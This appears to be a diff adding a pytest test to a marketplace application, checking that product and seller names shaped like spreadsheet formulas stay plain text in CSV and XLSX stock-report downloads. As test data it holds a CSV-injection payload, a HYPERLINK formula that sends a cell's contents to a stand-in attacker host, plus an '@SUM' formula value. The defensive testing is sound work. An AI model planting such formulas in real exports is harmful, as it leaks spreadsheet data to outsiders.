@@ -66,3 +66,30 @@ def test_a_sellers_document_downloads_sandboxed_and_is_never_shown_inline(client
     assert answer.headers["Content-Disposition"].startswith("attachment;")
     assert csp(answer)["sandbox"] == "" and answer.headers["Cache-Control"] == "private, no-store"
     assert answer.headers["X-Content-Type-Options"] == "nosniff"
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&C2,"x")'
+
+
+def test_a_name_that_looks_like_a_formula_stays_text_in_every_download(client, make):
+    """The stock report of a sales point, opened in a spreadsheet by its manager: the name is shown, never run."""
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    from marketplace.salespoints import services
+    from marketplace.unit_of_work import run
+
+    from .test_salespoints import new_point, officer, sign_in, staff
+    point = new_point(officer())
+    seller = make.seller(legal_name="@SUM(1+1)", province_code=19)
+    product = make.listed(seller=seller, name=FORMULA, price_vnd=120000)
+    run(services.receive_goods, point, staff(point, "quanly@ocop.vn", role="manager"), seller.id,
+        [services.ReceiptLine(product.id, 3)])
+    sign_in(client, "quanly@ocop.vn")
+
+    text = client.get(f"/counter/{point.id}/reports/stock.csv").get_data(as_text=True)
+    assert "'" + FORMULA.replace('"', '""') in text and "'@SUM(1+1)" in text  # quoted, with the apostrophe
+    book = load_workbook(BytesIO(client.get(f"/counter/{point.id}/reports/stock.xlsx").data))
+    cells = {cell.value: cell.data_type for row in book.active.iter_rows(min_row=2) for cell in row}
+    assert cells[FORMULA] == "s" and cells["@SUM(1+1)"] == "s"  # text cells, not formulas
